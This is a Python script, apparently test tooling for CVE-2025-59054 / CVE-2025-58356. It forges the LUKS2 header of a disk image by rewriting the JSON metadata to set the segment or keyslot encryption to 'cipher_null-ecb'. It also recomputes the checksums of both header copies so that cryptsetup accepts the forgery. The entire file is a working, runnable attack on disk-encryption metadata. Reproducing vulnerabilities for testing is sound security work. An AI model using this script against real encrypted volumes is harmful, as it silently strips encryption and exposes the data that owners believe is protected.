#!/usr/bin/env python3
"""Plays the hostile host: rewrites a LUKS2 header's JSON metadata in a disk image and recomputes the
checksums of both header copies, so that cryptsetup itself accepts the forgery (the attack behind
CVE-2025-59054 / CVE-2025-58356). Test tooling only.

Usage: forge-luks2-header.py IMAGE segment-cipher-null | keyslot-cipher-null
"""
import hashlib
import json
import struct
import sys

# LUKS2 binary header (see the LUKS2 on-disk format): magic[6] version u16 hdr_size u64 seqid u64
# label[48] csum_alg[32] salt[64] uuid[40] subsystem[48] hdr_offset u64 padding[184] csum[64] ...
CSUM_OFFSET, CSUM_LEN = 448, 64


def read_copy(disk, offset, magic):
    disk.seek(offset)
    binary = disk.read(4096)
    if binary[:6] != magic or struct.unpack(">H", binary[6:8])[0] != 2:
        sys.exit(f"no LUKS2 header at offset {offset}")
    hdr_size = struct.unpack(">Q", binary[8:16])[0]
    disk.seek(offset)
    return bytearray(disk.read(hdr_size)), hdr_size


def write_copy(disk, offset, header, metadata, seqid):
    hdr_size = len(header)
    text = json.dumps(metadata, separators=(",", ":")).encode()
    if len(text) >= hdr_size - 4096:
        sys.exit("forged metadata does not fit")
    header[4096:] = text + b"\0" * (hdr_size - 4096 - len(text))
    header[16:24] = struct.pack(">Q", seqid)
    header[CSUM_OFFSET:CSUM_OFFSET + CSUM_LEN] = b"\0" * CSUM_LEN
    digest = hashlib.sha256(bytes(header)).digest()
    header[CSUM_OFFSET:CSUM_OFFSET + len(digest)] = digest
    disk.seek(offset)
    disk.write(header)


def main():
    image, attack = sys.argv[1], sys.argv[2]
    with open(image, "r+b") as disk:
        primary, hdr_size = read_copy(disk, 0, b"LUKS\xba\xbe")
        secondary, _ = read_copy(disk, hdr_size, b"SKUL\xba\xbe")  # the secondary copy's magic
        metadata = json.loads(bytes(primary[4096:]).split(b"\0", 1)[0])
        if attack == "segment-cipher-null":
            metadata["segments"]["0"]["encryption"] = "cipher_null-ecb"
        elif attack == "keyslot-cipher-null":
            for slot in metadata["keyslots"].values():
                slot["area"]["encryption"] = "cipher_null-ecb"
        else:
            sys.exit(f"unknown attack {attack}")
        seqid = struct.unpack(">Q", primary[16:24])[0] + 1
        write_copy(disk, 0, primary, metadata, seqid)
        write_copy(disk, hdr_size, secondary, metadata, seqid)


if __name__ == "__main__":
    main()
